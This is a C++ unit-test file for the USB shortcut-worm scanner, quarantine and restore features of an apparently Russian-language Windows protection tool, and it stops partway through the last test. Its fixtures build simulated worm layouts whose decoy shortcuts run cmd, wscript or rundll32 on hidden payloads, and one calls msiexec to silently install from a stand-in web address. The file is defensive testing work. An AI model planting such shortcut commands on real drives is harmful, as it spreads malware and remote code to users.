#include "framework/Text.h"
#include "quarantine/QuarantineStore.h"
#include "res/resource.h"
#include "support/MessageRecorder.h"
#include "support/PageHost.h"
#include "support/ShortcutWriter.h"
#include "support/TestDrive.h"
#include "support/UnixHost.h"
#include "usb/DriveRestore.h"
#include "usb/UsbProtectionPage.h"

#include <gtest/gtest.h>

#include <commctrl.h>

#include <algorithm>
#include <atomic>
#include <cstring>
#include <functional>
#include <map>
#include <string>
#include <vector>

namespace {

std::wstring W(const std::string& ansi)
{
    return Widen(ansi);
}

class UsbProtection : public ::testing::Test {
protected:
    TestDrive drive{'E', DRIVE_REMOVABLE};
    PageHost host;
    UsbProtectionPage page;
    std::string quarantine;

    void SetUp() override
    {
        ASSERT_TRUE(page.CreateModeless(host.Handle()));
        char folder[kStorePathSize];
        ASSERT_TRUE(GetQuarantineFolder(folder));
        quarantine = folder;
        RemoveTree(quarantine);
    }
    void TearDown() override { RemoveTree(quarantine); }

    void Scan(const char* letters = "E")
    {
        page.ClearThreats();
        page.ScanDriveRoots(letters, static_cast<int>(std::strlen(letters)));
    }
    std::vector<std::wstring> Paths() const
    {
        std::vector<std::wstring> paths;
        for (int row = 0; row < page.RowCount(); ++row)
            paths.push_back(page.RowText(row, 0));
        return paths;
    }
    std::wstring State(int row) const { return page.RowText(row, 1); }
    std::wstring Counter() const { return page.ItemText(IDC_USB_COUNTER); }
    void Select(int row) { SelectListRow(page.List(), row); }
    void Press(int id) { ClickButton(page, id); }
    // Presses delete all or the picture button (restore) and waits for its worker.
    void RunWorker(int id)
    {
        Press(id);
        ASSERT_TRUE(WaitFor([&] { return !page.IsListBusy(); }, 20000));
    }
    // The quarantine items, with their origin paths and decoded content.
    std::vector<std::pair<std::string, std::string>> Quarantined() const
    {
        std::vector<std::pair<std::string, std::string>> items;
        WIN32_FIND_DATAA found;
        HANDLE search = FindFirstFileA((quarantine + "*.vw").c_str(), &found);
        if (search == INVALID_HANDLE_VALUE)
            return items;
        do {
            const std::string item = quarantine + found.cFileName;
            char origin[kStorePathSize] = {};
            ReadQuarantineOrigin(item.c_str(), origin);
            ScratchDir out;
            TranscodeQuarantineItem((out / "plain").c_str(), item.c_str(), TranscodeDecode);
            items.emplace_back(origin, ReadWholeFile(out / "plain"));
        } while (FindNextFileA(search, &found));
        FindClose(search);
        return items;
    }
};

constexpr DWORD kHiddenSystem = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM;
const wchar_t kCmd[] = L"C:\\windows\\system32\\cmd.exe";
const wchar_t kRestoreQuestion[] =
    L"Восстановить USB диски после вируса-ярлыка?\r\nСкрытые вирусом папки и файлы в корне каждого USB диска "
    L"снова станут видимыми, а ярлыки, запускающие вирус, будут перемещены в Карантин.";

// The root of E: as a shortcut worm leaves it: the user's folders and document
// hidden, a decoy beside each (to cmd.exe, to the worm's script, to a script
// deleted already), the worm's script, and entries that are not the worm's.
void MakeWormLayout(const TestDrive& drive)
{
    for (const char* folder : {"Photos", "Documents", "Music"})
        MakeFolder(drive / folder, kHiddenSystem);
    MakeFile(drive / "Photos\\inner.txt", "x", kHiddenSystem);
    MakeFile(drive / "report.docx", "PK report", kHiddenSystem | FILE_ATTRIBUTE_READONLY);
    MakeFile(drive / "x.vbs", "CreateObject(\"WScript.Shell\")", kHiddenSystem);
    EXPECT_TRUE(SaveShellShortcut(L"E:\\Photos.lnk", kCmd, L"/c start x.vbs & start explorer Photos"));
    EXPECT_TRUE(SaveShellShortcut(L"E:\\Documents.lnk", kCmd, L""));
    EXPECT_TRUE(SaveShellShortcut(L"E:\\Music.lnk", L"E:\\gone.js", L""));
    EXPECT_TRUE(SaveShellShortcut(L"E:\\report.docx.lnk", L"E:\\x.vbs", L""));
    EXPECT_TRUE(SaveShellShortcut(L"E:\\Editor.lnk", L"C:\\windows\\notepad.exe", L""));
    MakeFile(drive / "broken.lnk", "not a shortcut");
    for (const char* folder : {"System Volume Information", "AUTORUN.INF", "$RECYCLE.BIN"})
        MakeFolder(drive / folder, kHiddenSystem);
    MakeFile(drive / "desktop.ini", "[.ShellClassInfo]", kHiddenSystem);
}

}  // namespace

TEST_F(UsbProtection, ListsAnInfFileAndAHiddenProgramWithTheirCount)
{
    MakeFile(drive / "AUTORUN.INF", "[autorun]\r\nopen=x.exe\r\n");
    MakeFile(drive / "x.exe", "MZ", FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM);
    MakeFile(drive / "notes.txt", "hello", FILE_ATTRIBUTE_HIDDEN);
    Scan();
    ASSERT_EQ(page.RowCount(), 2);
    std::vector<std::wstring> paths = Paths();
    std::sort(paths.begin(), paths.end());
    EXPECT_EQ(paths, (std::vector<std::wstring>{L"E:\\AUTORUN.INF", L"E:\\x.exe"}));
    EXPECT_EQ(State(0), L"Риск");
    EXPECT_EQ(State(1), L"Риск");
    EXPECT_EQ(Counter(), L"2 найденных угроз");
    EXPECT_TRUE(IsWindowEnabled(page.Item(IDC_FIRST_BUTTON)));
    EXPECT_TRUE(IsWindowEnabled(page.Item(IDC_USB_DELETE_ALL)));
}

TEST_F(UsbProtection, VisibleProgramsFoldersAndSubfoldersAreNotListed)
{
    MakeFile(drive / "setup.exe", "MZ");
    MakeFolder(drive / "hidden.exe", FILE_ATTRIBUTE_HIDDEN);
    MakeFolder(drive / "AUTORUN.INF", FILE_ATTRIBUTE_HIDDEN);
    MakeFolder(drive / "sub");
    MakeFile(drive / "sub\\AUTORUN.INF", "x");
    MakeFile(drive / "sub\\deep.exe", "MZ", FILE_ATTRIBUTE_HIDDEN);
    Scan();
    EXPECT_EQ(page.RowCount(), 0);
    EXPECT_EQ(Counter(), L"Угроз не обнаружено");
}

TEST_F(UsbProtection, EveryDriveIsScannedAndRowsFollowOneAnother)
{
    TestDrive second('F', DRIVE_REMOVABLE);
    MakeFile(drive / "a.inf", "x");
    MakeFile(second / "b.inf", "x");
    MakeFile(second / "c.vbs", "x", FILE_ATTRIBUTE_HIDDEN);
    Scan("EF");
    EXPECT_EQ(page.RowCount(), 3);
    EXPECT_EQ(page.RowText(0, 0), L"E:\\a.inf");
    EXPECT_EQ(Counter(), L"3 найденных угроз");
    Scan("");
    EXPECT_EQ(page.RowCount(), 0) << "no letters: nothing scanned";
}

TEST_F(UsbProtection, LongRootNamesKeepTheirWholePath)
{
    // Far longer than the 96 characters a short path buffer would allow.
    const std::string name = std::string(180, 'n') + ".inf";
    MakeFile(drive / name, "payload");
    Scan();
    ASSERT_EQ(page.RowCount(), 1);
    EXPECT_EQ(page.RowText(0, 0), W("E:\\" + name));

    MessageRecorder messages(IDOK);
    Select(0);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(State(0), L"Удален");
    EXPECT_FALSE(PathExists(drive / name));
}

TEST_F(UsbProtection, DeleteNeedsRowsAndASelection)
{
    MessageRecorder messages(IDCANCEL);
    Scan();
    Press(IDC_FIRST_BUTTON);
    Press(IDC_USB_DELETE_ALL);
    MakeFile(drive / "AUTORUN.INF", "x");
    Scan();
    Press(IDC_FIRST_BUTTON);
    Press(IDC_USB_DELETE_ALL);  // asked, and cancelled
    EXPECT_EQ(messages.Texts(), (std::vector<std::wstring>{L"Угроз не обнаружено", L"Угроз не обнаружено",
                                                           L"Пожалуйста, выберите файл", L"Вы хотите удалить Все?"}));
    EXPECT_TRUE(PathExists(drive / "AUTORUN.INF"));
    EXPECT_EQ(State(0), L"Риск");
}

TEST_F(UsbProtection, CancelLeavesTheFileItsAttributesAndTheRow)
{
    MakeFile(drive / "run.vbs", "WScript.Echo 1",
             FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM | FILE_ATTRIBUTE_READONLY);
    const DWORD attributes = GetFileAttributesA((drive / "run.vbs").c_str());
    Scan();
    ASSERT_EQ(page.RowCount(), 1);
    MessageRecorder messages(IDCANCEL);
    Select(0);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(messages.Texts(), std::vector<std::wstring>{L"Удаление: E:\\run.vbs?"});
    EXPECT_EQ(GetFileAttributesA((drive / "run.vbs").c_str()), attributes);
    EXPECT_EQ(State(0), L"Риск");
    EXPECT_TRUE(Quarantined().empty());
}

TEST_F(UsbProtection, DeleteMovesTheFileIntoQuarantineAndMarksTheRow)
{
    const std::string content("MZ\x90\0\x03\xff payload", 14);
    MakeFile(drive / "x.exe", content, FILE_ATTRIBUTE_HIDDEN);
    MakeFile(drive / "AUTORUN.INF", "[autorun]");
    Scan();
    ASSERT_EQ(page.RowCount(), 2);
    const int row = page.RowText(0, 0) == L"E:\\x.exe" ? 0 : 1;
    MessageRecorder messages(IDOK);
    Select(row);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(messages.Texts(), (std::vector<std::wstring>{L"Удаление: E:\\x.exe?", L"Ожидайте"}));
    EXPECT_EQ(State(row), L"Удален");
    EXPECT_EQ(State(1 - row), L"Риск");
    EXPECT_EQ(page.RowCount(), 2) << "a deleted row stays";
    EXPECT_EQ(Counter(), L"2 найденных угроз") << "the counter keeps the scan's text";
    EXPECT_FALSE(PathExists(drive / "x.exe"));
    const auto items = Quarantined();
    ASSERT_EQ(items.size(), 1u);
    EXPECT_EQ(items[0].first, "E:\\x.exe");
    EXPECT_EQ(items[0].second, content);
}

TEST_F(UsbProtection, AFileRemovedByOtherMeansIsDeletedWithoutQuarantine)
{
    MakeFile(drive / "gone.inf", "x");
    Scan();
    ASSERT_TRUE(DeleteFileA((drive / "gone.inf").c_str()));
    MessageRecorder messages(IDOK);
    Select(0);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(messages.Texts(), std::vector<std::wstring>{L"Удаление: E:\\gone.inf?"}) << "no wait message";
    EXPECT_EQ(State(0), L"Удален");
    EXPECT_TRUE(Quarantined().empty());
}

TEST_F(UsbProtection, AFileThatCannotBeQuarantinedIsADeletionError)
{
    MakeFile(drive / "busy.inf", "x", FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM);
    const DWORD attributes = GetFileAttributesA((drive / "busy.inf").c_str());
    Scan();
    // Held open without sharing: the store cannot read it and keeps it.
    HANDLE held = CreateFileA((drive / "busy.inf").c_str(), GENERIC_READ, 0, nullptr, OPEN_EXISTING, 0, nullptr);
    ASSERT_NE(held, INVALID_HANDLE_VALUE);
    MessageRecorder messages(IDOK);
    Select(0);
    Press(IDC_FIRST_BUTTON);
    CloseHandle(held);
    EXPECT_EQ(State(0), L"Ошибка удаления");
    EXPECT_EQ(GetFileAttributesA((drive / "busy.inf").c_str()), attributes) << "the kept file stays hidden";
    // The row can be deleted again.
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(State(0), L"Удален");
}

TEST_F(UsbProtection, DeleteAllGoesRowByRowAndEndsWithItsMessage)
{
    MakeFile(drive / "one.inf", "1");
    MakeFile(drive / "two.exe", "22", FILE_ATTRIBUTE_HIDDEN);
    MakeFile(drive / "three.bat", "333", FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_READONLY);
    Scan();
    ASSERT_EQ(page.RowCount(), 3);
    std::vector<std::string> rowPaths;
    for (const std::wstring& path : Paths())
        rowPaths.push_back(Narrow(path));

    // The quarantine order, seen from the worker while it asks its closing message.
    std::vector<std::wstring> statesAtEnd;
    MessageRecorder messages;
    messages.SetAnswer([&](const MessageBoxCall& call) {
        if (call.text == L"Ожидайте")
            return IDOK;
        if (call.text == L"Удалите Ваш USB диск, а затем повторно подключите к ПК") {
            for (int row = 0; row < 3; ++row)
                statesAtEnd.push_back(State(row));
        }
        return IDOK;
    });
    Press(IDC_USB_DELETE_ALL);
    EXPECT_TRUE(page.IsListBusy());
    ASSERT_TRUE(WaitFor([&] { return !page.IsListBusy(); }, 20000));

    EXPECT_EQ(messages.Texts(),
              (std::vector<std::wstring>{L"Вы хотите удалить Все?", L"Ожидайте",
                                         L"Удалите Ваш USB диск, а затем повторно подключите к ПК"}));
    EXPECT_EQ(statesAtEnd, (std::vector<std::wstring>{L"Удален", L"Удален", L"Удален"}));
    EXPECT_TRUE(IsWindowEnabled(page.Item(IDC_FIRST_BUTTON)));
    EXPECT_TRUE(IsWindowEnabled(page.Item(IDC_USB_DELETE_ALL)));
    const auto items = Quarantined();
    ASSERT_EQ(items.size(), 3u);
    for (const auto& item : items) {
        EXPECT_NE(std::find(rowPaths.begin(), rowPaths.end(), item.first), rowPaths.end()) << item.first;
        EXPECT_FALSE(PathExists(item.first));
    }
}

namespace {
// Records the enable and disable requests a button receives.
LRESULT CALLBACK RecordEnable(HWND window, UINT msg, WPARAM wParam, LPARAM lParam, UINT_PTR, DWORD_PTR data)
{
    if (msg == WM_ENABLE)
        reinterpret_cast<std::vector<bool>*>(data)->push_back(wParam != 0);
    return DefSubclassProc(window, msg, wParam, lParam);
}
}  // namespace

TEST_F(UsbProtection, ButtonsAreDisabledWhileDeleteAllRunsAndTheScanRuns)
{
    MakeFile(drive / "a.inf", "1");
    std::vector<bool> deleteAll, deleteOne;
    SetWindowSubclass(page.Item(IDC_USB_DELETE_ALL), RecordEnable, 1, reinterpret_cast<DWORD_PTR>(&deleteAll));
    SetWindowSubclass(page.Item(IDC_FIRST_BUTTON), RecordEnable, 1, reinterpret_cast<DWORD_PTR>(&deleteOne));
    Scan();
    EXPECT_EQ(deleteAll, (std::vector<bool>{false, true}));
    EXPECT_EQ(deleteOne, (std::vector<bool>{false, true}));
    deleteAll.clear();
    deleteOne.clear();

    // The worker waits in its first message until the test has looked.
    HANDLE release = CreateEventW(nullptr, TRUE, FALSE, nullptr);
    std::atomic<int> waits{0};
    MessageRecorder messages;
    messages.SetAnswer([&](const MessageBoxCall& call) {
        if (call.text == L"Ожидайте" && waits++ == 0)
            WaitForSingleObject(release, 20000);
        return IDOK;
    });
    Press(IDC_USB_DELETE_ALL);
    ASSERT_TRUE(WaitFor([&] { return waits.load() == 1; }));
    EXPECT_TRUE(PathExists(drive / "a.inf")) << "nothing is touched before the wait message is dismissed";
    SetEvent(release);
    ASSERT_TRUE(WaitFor([&] { return !page.IsListBusy(); }, 20000));
    EXPECT_EQ(deleteAll, (std::vector<bool>{false, true}));
    EXPECT_EQ(deleteOne, (std::vector<bool>{false, true}));
    EXPECT_EQ(State(0), L"Удален");
    RemoveWindowSubclass(page.Item(IDC_USB_DELETE_ALL), RecordEnable, 1);
    RemoveWindowSubclass(page.Item(IDC_FIRST_BUTTON), RecordEnable, 1);
    CloseHandle(release);
}

TEST_F(UsbProtection, RestoreShowsTheUsersEntriesAndPutsTheDecoysIntoQuarantine)
{
    MakeWormLayout(drive);
    std::map<std::string, std::string> decoys;
    std::map<std::wstring, std::wstring> rows;
    for (const char* name : {"Photos", "Documents", "Music", "report.docx"}) {
        const std::string decoy = drive / name + ".lnk";
        decoys[decoy] = ReadWholeFile(decoy);
        rows[W(decoy)] = L"Удален";
        rows[W(drive / name)] = L"Восстановлен";
    }
    std::map<std::string, DWORD> untouched;
    for (const char* name : {"x.vbs", "Editor.lnk", "broken.lnk", "System Volume Information", "AUTORUN.INF",
                             "$RECYCLE.BIN", "desktop.ini", "Photos\\inner.txt"})
        untouched[name] = GetFileAttributesA((drive / name).c_str());

    MessageRecorder messages(IDCANCEL);
    Press(IDC_SECOND_BUTTON);  // cancelled: changes nothing, as the second question's answer shows
    messages.SetAnswer(IDOK);
    RunWorker(IDC_SECOND_BUTTON);
    EXPECT_EQ(messages.Texts(), (std::vector<std::wstring>{kRestoreQuestion, kRestoreQuestion,
                                                           L"Восстановление USB дисков завершено."
                                                           L"\r\nСнова видны папок и файлов: 4\r\nЯрлыков вируса "
                                                           L"перемещено в Карантин: 4"}));
    std::map<std::wstring, std::wstring> shown;
    for (int row = 0; row < page.RowCount(); ++row)
        shown[page.RowText(row, 0)] = State(row);
    EXPECT_EQ(shown, rows);
    for (const char* folder : {"Photos", "Documents", "Music"})
        EXPECT_EQ(GetFileAttributesA((drive / folder).c_str()), DWORD{FILE_ATTRIBUTE_DIRECTORY}) << folder;
    EXPECT_EQ(GetFileAttributesA((drive / "report.docx").c_str()) & ~FILE_ATTRIBUTE_ARCHIVE,
              DWORD{FILE_ATTRIBUTE_READONLY});
    for (const auto& entry : untouched)
        EXPECT_EQ(GetFileAttributesA((drive / entry.first).c_str()), entry.second) << entry.first;
    const auto items = Quarantined();
    EXPECT_EQ((std::map<std::string, std::string>(items.begin(), items.end())), decoys);

    messages.Clear();
    RunWorker(IDC_SECOND_BUTTON);
    EXPECT_EQ(messages.Texts().back(), L"На USB дисках нечего восстанавливать: скрытых папок и файлов и ярлыков "
                                       L"вируса не найдено");
}

TEST_F(UsbProtection, NamesOutsideTheAnsiCodePageAreRestoredListedAndDeleted)
{
    // No character of the Windows-1251 code page stands for these.
    const std::wstring diary = L"E:\\\x65E5\x8A18";
    ASSERT_TRUE(CreateDirectoryW(diary.c_str(), nullptr));
    SetFileAttributesW(diary.c_str(), kHiddenSystem);
    EXPECT_TRUE(SaveShellShortcut(diary + L".lnk", kCmd, L""));
    MakeFile(drive / "worm.exe", "MZ", FILE_ATTRIBUTE_HIDDEN);
    ASSERT_TRUE(MoveFileW(L"E:\\worm.exe", (diary + L".exe").c_str()));
    MessageRecorder messages(IDOK);
    RunWorker(IDC_SECOND_BUTTON);
    EXPECT_EQ(GetFileAttributesW(diary.c_str()), DWORD{FILE_ATTRIBUTE_DIRECTORY});
    EXPECT_EQ(GetFileAttributesW((diary + L".lnk").c_str()), INVALID_FILE_ATTRIBUTES);
    EXPECT_EQ(Quarantined().size(), 1u) << "kept by its short name";

    Scan();
    EXPECT_EQ(Paths(), std::vector<std::wstring>{diary + L".exe"});
    Select(0);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(State(0), L"Удален");
    EXPECT_EQ(GetFileAttributesW((diary + L".exe").c_str()), INVALID_FILE_ATTRIBUTES);
}

TEST_F(UsbProtection, APulledDriveGivesErrorsAndDeletesLeaveTheUsersEntries)
{
    MakeWormLayout(drive);
    const std::vector<RestoreStep> steps = PlanDriveRestore(L'E');
    EXPECT_EQ(steps.size(), 8u);
    Scan();
    drive.Detach();
    for (const RestoreStep& step : steps)
        EXPECT_FALSE(CarryOutRestoreStep(step));
    MessageRecorder messages(IDOK);
    Press(IDC_SECOND_BUTTON);
    EXPECT_EQ(messages.Texts(), std::vector<std::wstring>{L"USB устройство не обнаружено"});
    Select(0);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(State(0), L"Ошибка удаления") << "a file on a pulled drive is not deleted";
    drive.Attach();
    EXPECT_EQ(GetFileAttributesA((drive / "Photos").c_str()), FILE_ATTRIBUTE_DIRECTORY | kHiddenSystem);

    // Restored rows are the user's: delete all passes them over, delete refuses.
    page.ClearThreats();
    RunWorker(IDC_SECOND_BUTTON);
    RunWorker(IDC_USB_DELETE_ALL);
    const std::vector<std::wstring> paths = Paths();
    const int report = static_cast<int>(std::find(paths.begin(), paths.end(), L"E:\\report.docx") - paths.begin());
    EXPECT_EQ(State(report), L"Восстановлен");
    EXPECT_TRUE(PathExists(drive / "report.docx"));
    messages.Clear();
    Select(report);
    Press(IDC_FIRST_BUTTON);
    EXPECT_EQ(messages.Texts(), std::vector<std::wstring>{L"Это Ваша папка или файл, а не угроза"});
}

namespace {

const wchar_t kWormShortcut[] = L"Ярлык вируса";
const wchar_t kWormFile[] = L"Файл вируса";
const char kRecycleBinIni[] = "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n";

std::string A(const std::wstring& wide)
{
    return Narrow(wide);
}

// A folder or file of E: by its wide name, with its attributes.
void MakeOnDrive(const std::wstring& relative, const std::string& content, DWORD attributes, bool folder = false)
{
    // The literal form: a name of blanks only is lost from an ordinary path.
    const std::wstring path = L"\\\\?\\E:\\" + relative;
    if (folder) {
        ASSERT_TRUE(CreateDirectoryW(path.c_str(), nullptr)) << A(relative);
    } else {
        HANDLE file = CreateFileW(path.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_NEW, 0, nullptr);
        ASSERT_NE(file, INVALID_HANDLE_VALUE) << A(relative);
        DWORD written = 0;
        WriteFile(file, content.data(), static_cast<DWORD>(content.size()), &written, nullptr);
        CloseHandle(file);
    }
    SetFileAttributesW(path.c_str(), attributes);
}

void EmptyDrive(const TestDrive& drive)
{
    WIN32_FIND_DATAA found;
    HANDLE search = FindFirstFileA((drive / "*").c_str(), &found);
    if (search == INVALID_HANDLE_VALUE)
        return;
    do {
        if (std::strcmp(found.cFileName, ".") != 0 && std::strcmp(found.cFileName, "..") != 0)
            RemoveTree(drive / found.cFileName);
    } while (FindNextFileA(search, &found));
    FindClose(search);
}

// Restores every item of the quarantine to its origin, making the folders a
// delete removed; the origins.
std::vector<std::string> RestoreEveryItem(const std::string& quarantine)
{
    std::vector<std::string> origins;
    WIN32_FIND_DATAA found;
    HANDLE search = FindFirstFileA((quarantine + "*.vw").c_str(), &found);
    if (search == INVALID_HANDLE_VALUE)
        return origins;
    do {
        const std::string item = quarantine + found.cFileName;
        char origin[kStorePathSize] = {};
        EXPECT_TRUE(ReadQuarantineOrigin(item.c_str(), origin));
        for (size_t at = std::strlen("E:\\"); (at = std::string(origin).find('\\', at)) != std::string::npos; ++at)
            CreateDirectoryA(std::string(origin, at).c_str(), nullptr);
        EXPECT_EQ(RestoreQuarantineItem(item.c_str()), RestoreToOrigin) << origin;
        origins.push_back(origin);
    } while (FindNextFileA(search, &found));
    FindClose(search);
    return origins;
}

DWORD AttributesOf(const std::wstring& path)
{
    return GetFileAttributesW((L"\\\\?\\" + path).c_str());
}

}  // namespace

// The layouts the USB worms of today leave on a stick, one at a time: the
// rows the scan adds after the root scan's own, what delete all takes into
// quarantine (byte for byte, and restorable), the disguised recycle bin it
// removes once empty, and the user's hidden entries it keeps for the restore.
TEST_F(UsbProtection, EachWormLayoutIsListedDeletedIntoQuarantineAndRestorable)
{
    const std::wstring cmd = kCmd;
    struct Layout {
        const char* what;
        std::function<void()> make;
        std::vector<std::pair<std::wstring, std::wstring>> rows;  // path and state, root scan's rows first
        std::vector<std::wstring> users;                          // the user's hidden entries
        std::vector<std::wstring> removed;                        // disguised recycle bins gone with their files
    };
    const Layout layouts[] = {
        {"a decoy named after the drive starts cmd on a payload of a made-up extension; the user's files lie "
         "in a folder of no-break spaces",
         [&] {
             MakeOnDrive(L"\xA0", "", kHiddenSystem, true);
             MakeOnDrive(L"\xA0\\план.docx", "PK plan", FILE_ATTRIBUTE_NORMAL);
             MakeOnDrive(L"sys", "", FILE_ATTRIBUTE_HIDDEN, true);
             MakeOnDrive(L"sys\\kvx.usb", "payload\x01\xff", FILE_ATTRIBUTE_NORMAL);
             ShortcutSpec decoy;
             decoy.idListTarget = cmd;
             decoy.arguments = L"/r type sys\\kvx.usb | cmd & start explorer \"\xA0\"";
             decoy.iconLocation = L"%SystemRoot%\\System32\\shell32.dll";
             decoy.iconIndex = 7;
             WriteShortcut(L"E:\\USB Drive.lnk", decoy);
         },
         {{L"E:\\USB Drive.lnk", kWormShortcut}, {L"E:\\sys\\kvx.usb", kWormFile}},
         {L"E:\\\xA0"},
         {}},
        {"a recycle bin by name holds a signed program and the library it loads; the decoy, named after the "
         "user's hidden folder, names the program in its ID list alone",
         [&] {
             MakeOnDrive(L"Фото", "", kHiddenSystem, true);
             MakeOnDrive(L"Фото\\море.jpg", "JFIF", FILE_ATTRIBUTE_NORMAL);
             MakeOnDrive(L"RECYCLER.BIN", "", kHiddenSystem, true);
             MakeOnDrive(L"RECYCLER.BIN\\desktop.ini", kRecycleBinIni, kHiddenSystem);
             MakeOnDrive(L"RECYCLER.BIN\\1", "", FILE_ATTRIBUTE_NORMAL, true);
             MakeOnDrive(L"RECYCLER.BIN\\1\\Updater.exe", "MZ signed", FILE_ATTRIBUTE_NORMAL);
             MakeOnDrive(L"RECYCLER.BIN\\1\\version.dll", "MZ loaded", FILE_ATTRIBUTE_NORMAL);
             MakeOnDrive(L"RECYCLER.BIN\\empty", "", FILE_ATTRIBUTE_NORMAL, true);
             ShortcutSpec decoy;
             decoy.idListTarget = L"E:\\RECYCLER.BIN\\1\\Updater.exe";
             WriteShortcut(L"E:\\Фото.lnk", decoy);
         },
         {{L"E:\\Фото.lnk", kWormShortcut},
          {L"E:\\RECYCLER.BIN\\desktop.ini", kWormFile},
          {L"E:\\RECYCLER.BIN\\1\\Updater.exe", kWormFile},
          {L"E:\\RECYCLER.BIN\\1\\version.dll", kWormFile}},
         {L"E:\\Фото"},
         {L"E:\\RECYCLER.BIN"}},
        {"a folder dressed as a recycle bin by its class; the decoy beside the user's hidden document runs a "
         "script host on a file of the bin and then opens the document",
         [&] {
             MakeOnDrive(L"Отчёт.docx", "PK report", kHiddenSystem);
             MakeOnDrive(L"Корзина", "", kHiddenSystem, true);
             MakeOnDrive(L"Корзина\\desktop.ini", kRecycleBinIni, kHiddenSystem);
             MakeOnDrive(L"Корзина\\run.lo", "WScript.Echo 1", FILE_ATTRIBUTE_NORMAL);
             ShortcutSpec decoy;
             decoy.idListTarget = cmd;
             decoy.arguments = L"/c start wscript //e:vbscript Корзина\\run.lo & start Отчёт.docx";
             decoy.unicode = false;
             WriteShortcut(L"E:\\Отчёт.docx.lnk", decoy);
         },
         {{L"E:\\Отчёт.docx.lnk", kWormShortcut},
          {L"E:\\Корзина\\desktop.ini", kWormFile},
          {L"E:\\Корзина\\run.lo", kWormFile}},
         {L"E:\\Отчёт.docx"},
         {L"E:\\Корзина"}},
        {"a hidden decoy to msiexec with a web address keeps its root scan row, after AUTORUN.INF",
         [&] {
             MakeOnDrive(L"AUTORUN.INF", "[autorun]", FILE_ATTRIBUTE_NORMAL);
             ShortcutSpec decoy;
             decoy.linkInfoTarget = L"C:\\windows\\system32\\msiexec.exe";
             decoy.arguments = L"/q /i http://example.invalid/a.msi";
             WriteShortcut(L"E:\\Drive.lnk", decoy);
             SetFileAttributesW(L"E:\\Drive.lnk", kHiddenSystem);
         },
         {{L"E:\\AUTORUN.INF", L"Риск"}, {L"E:\\Drive.lnk", L"Риск"}},
         {},
         {}},
        {"a shortcut saved by the shell hands rundll32 a library of a hidden folder; the user's files lie in a "
         "folder of plain blanks",
         [&] {
             MakeOnDrive(L"  ", "", FILE_ATTRIBUTE_HIDDEN, true);
             MakeOnDrive(L".cache", "", FILE_ATTRIBUTE_HIDDEN, true);
             MakeOnDrive(L".cache\\m.dat", "MZ library", FILE_ATTRIBUTE_NORMAL);
             ASSERT_TRUE(SaveShellShortcut(L"E:\\Music.lnk", L"C:\\windows\\system32\\rundll32.exe",
                                           L"\"E:\\.cache\\m.dat\",Run"));
         },
         {{L"E:\\Music.lnk", kWormShortcut}, {L"E:\\.cache\\m.dat", kWormFile}},
         {L"E:\\  "},
         {}},
    };
    for (const Layout& layout : layouts) {
        SCOPED_TRACE(layout.what);
        EmptyDrive(drive);
        RemoveTree(quarantine);
        layout.make();
        std::map<std::string, std::string> contents;
        for (const auto& row : layout.rows)
            contents[A(row.first)] = ReadWholeFile(A(row.first));
        std::map<std::wstring, DWORD> users;
        for (const std::wstring& entry : layout.users)
            users[entry] = AttributesOf(entry);

        Scan();
        std::vector<std::pair<std::wstring, std::wstring>> rows;
        for (int row = 0; row < page.RowCount(); ++row)
            rows.emplace_back(page.RowText(row, 0), State(row));
        // The root scan's rows come in the file system's order, the others in the layout's.
        std::vector<std::pair<std::wstring, std::wstring>> expected = layout.rows;
        const auto rootRows = [](const std::pair<std::wstring, std::wstring>& row) { return row.second == L"Риск"; };
        EXPECT_TRUE(std::is_partitioned(rows.begin(), rows.end(), rootRows));
        std::sort(rows.begin(), rows.end());
        std::sort(expected.begin(), expected.end());
        EXPECT_EQ(rows, expected);
        EXPECT_EQ(Counter(), std::to_wstring(layout.rows.size()) + L" найденных угроз");
        const std::wstring notice = page.WormNotice();
        if (layout.users.empty()) {
            EXPECT_EQ(notice, L"");
        } else {
            EXPECT_NE(notice.find(L"USB диске E: вирус спрятал Ваши папки и файлы"), std::wstring::npos);
            EXPECT_NE(notice.find(L"кнопку с флешкой"), std::wstring::npos);
        }

        MessageRecorder messages(IDOK);
        RunWorker(IDC_USB_DELETE_ALL);
        for (int row = 0; row < page.RowCount(); ++row)
            EXPECT_EQ(State(row), L"Удален") << A(page.RowText(row, 0));
        const auto items = Quarantined();
        EXPECT_EQ((std::map<std::string, std::string>(items.begin(), items.end())), contents);
        for (const std::wstring& folder : layout.removed)
            EXPECT_EQ(GetFileAttributesW(folder.c_str()), INVALID_FILE_ATTRIBUTES) << A(folder);
        for (const auto& entry : users)
            EXPECT_EQ(AttributesOf(entry.first), entry.second) << A(entry.first) << ": kept for the restore";

        // The restore shows the user's entries; the quarantine gives the worm's files back.
        RunWorker(IDC_SECOND_BUTTON);
        for (const std::wstring& entry : layout.users)
            EXPECT_EQ(AttributesOf(entry) & kHiddenSystem, 0u) << A(entry);
        for (const std::string& origin : RestoreEveryItem(quarantine))
            EXPECT_EQ(ReadWholeFile(origin), contents[origin]) << origin;
    }
}

// A stick with a portable program, its launchers, the user's own shortcuts
// and Windows' own folders: nothing of it is the worm's, and the restore
// finds nothing to do.
TEST_F(UsbProtection, APortableProgramsDriveIsListedEmptyAndLeftAsItIs)
{
    MakeFolder(drive / "PortableApps");
    MakeFolder(drive / "PortableApps\\Firefox");
    MakeFile(drive / "PortableApps\\Firefox\\firefox.exe", "MZ");
    MakeFolder(drive / "Docs", FILE_ATTRIBUTE_READONLY);
    MakeFile(drive / "Docs\\desktop.ini", "[.ShellClassInfo]\r\nIconResource=C:\\windows\\system32\\shell32.dll,4\r\n",
             kHiddenSystem);
    MakeFile(drive / "Docs\\notes.txt", "notes");
    MakeFile(drive / "setup.exe", "MZ");
